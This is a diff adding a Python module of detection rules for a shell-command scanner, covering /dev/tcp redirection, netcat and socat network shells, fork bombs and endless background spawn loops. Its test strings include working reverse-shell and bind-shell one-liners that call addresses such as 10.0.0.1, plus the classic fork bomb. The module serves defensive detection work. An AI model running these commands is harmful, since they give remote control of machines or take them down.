@@ -1,0 +1,110 @@
+"""Network shells and resource exhaustion (NE and DO families)."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from .._analysis import CommandSubject, FunctionSubject, LoopSubject, RedirectSubject
+from .._model import Severity
+from .._policy import Tables
+from ._paths import has_short_flag
+from ._rule import Hit, Inspects, rule
+
+_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
+_SOCAT_EXEC_ADDRESSES = ("exec:", "system:")
+
+
+@rule(
+    id="NE001",
+    name="dev-tcp-redirection",
+    severity=Severity.HIGH,
+    summary="Opens a network connection through bash's /dev/tcp or /dev/udp redirection.",
+    rationale="`bash -i >& /dev/tcp/host/port 0>&1` is the canonical reverse shell; it needs no network tool at all.",
+    safer_alternative="Use curl or a client library for network access, so the request is visible.",
+    inspects=Inspects.REDIRECT,
+    must_match=(
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "exec 3<>/dev/tcp/example.com/80",
+        "cat < /dev/udp/10.0.0.1/53",
+        "echo x > /dev/tcp/h/9",
+    ),
+    must_not_match=("ls /dev", "echo '/dev/tcp is a bash feature'", "echo x > dev/tcp.txt"),
+)
+def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
+    target = subject.target
+    if target is None:
+        return
+    for value in target.values:
+        if value.startswith(("/dev/tcp/", "/dev/udp/")):
+            yield Hit(subject.span, f"network connection through `{value}`")
+            return
+
+
+@rule(
+    id="NE002",
+    name="network-shell",
+    severity=Severity.HIGH,
+    summary="Connects a program to a network socket (nc -e, ncat --exec, socat EXEC:/SYSTEM:).",
+    rationale="A shell bound to a socket gives whoever is on the other end full control: a reverse or bind shell.",
+    safer_alternative="Use nc/socat only to move data (`nc -zv host 80`), never to run programs.",
+    inspects=Inspects.COMMAND,
+    commands=_NETCATS | {"socat"},
+    must_match=(
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "ncat --exec /bin/bash 10.0.0.1 4444",
+        "nc -c sh 10.0.0.1 4444",
+        "busybox nc 10.0.0.1 4444 -e sh",
+        "socat tcp:10.0.0.1:4444 exec:/bin/sh",
+        "socat TCP-LISTEN:4444,reuseaddr SYSTEM:bash",
+        "ncat -lvp 4444 --sh-exec 'bash -i'",
+    ),
+    must_not_match=("nc -zv example.com 80", "socat - TCP:example.com:80", "ncat -l 8080 > file", "mkfifo /tmp/pipe"),
+)
+def network_shell(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
+    name = subject.name
+    args = subject.args
+    if name in _NETCATS:
+        if has_short_flag(args, "ec", ("--exec", "--sh-exec", "--lua-exec")):
+            yield Hit(subject.span, f"`{name}` runs a program connected to a socket")
+    elif name == "socat":
+        for arg in args:
+            if any(value.lower().startswith(_SOCAT_EXEC_ADDRESSES) for value in arg.values):
+                yield Hit(arg.span, "socat connects a socket to a program")
+
+
+@rule(
+    id="DO001",
+    name="fork-bomb",
+    severity=Severity.HIGH,
+    summary="A function that calls itself in the background or through a pipe: exponential process growth.",
+    rationale="`:(){ :|:& };:` exhausts the process table in seconds and takes the machine down.",
+    safer_alternative="Use a loop with a bound, or xargs -P for parallelism.",
+    inspects=Inspects.FUNCTION,
+    must_match=(":(){ :|:& };:", "bomb(){ bomb | bomb & }; bomb", "f() { f & f; }; f", "function x { x | x; }"),
+    must_not_match=("f(){ echo hi; }; f", "retry(){ sleep 1; retry; }", "build(){ make | tee log; }"),
+)
+def fork_bomb(subject: FunctionSubject, tables: Tables) -> Iterator[Hit]:
+    if subject.recursive_spawns:
+        yield Hit(subject.span, f"function `{subject.name}` spawns copies of itself")
+
+
+@rule(
+    id="DO002",
+    name="background-spawn-loop",
+    severity=Severity.HIGH,
+    summary="An endless loop starts shells or interpreters in the background.",
+    rationale="`while :; do sh & done` fills the process table as fast as the kernel can fork.",
+    safer_alternative="Bound the loop and wait for the background jobs (`wait`).",
+    inspects=Inspects.LOOP,
+    must_match=("while :; do sh & done", "while true; do bash -c 'sleep 9' & done", "until false; do python3 x.py & done"),
+    must_not_match=("while :; do sleep 1; done", "while read l; do sh -c 'echo' & done < f", "for i in 1 2; do bash x & done"),
+)
+def background_spawn_loop(subject: LoopSubject, tables: Tables) -> Iterator[Hit]:
+    if not subject.unbounded:
+        return
+    for name, span in subject.background_spawns:
+        if tables.interpreter(name) is not None:
+            yield Hit(span, f"an endless loop starts `{name}` in the background")
+
+
+NETWORK_AND_RESOURCE_RULES = (dev_tcp_redirection, network_shell, fork_bomb, background_spawn_loop)
